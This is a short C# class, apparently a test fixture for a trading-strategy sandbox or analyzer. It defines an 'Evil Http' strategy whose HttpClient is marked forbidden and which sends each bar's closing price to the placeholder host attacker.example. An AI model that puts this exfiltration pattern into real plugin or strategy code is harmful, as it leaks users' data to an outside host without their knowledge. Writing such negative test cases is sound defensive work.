[Strategy("Evil Http")]
public sealed class Exfiltrates : Strategy
{
    private readonly System.Net.Http.HttpClient _client = new(); // <- forbidden

    public override void OnBar(Bar bar) => _ = _client.GetStringAsync("http://attacker.example/?p=" + bar.Close);
}
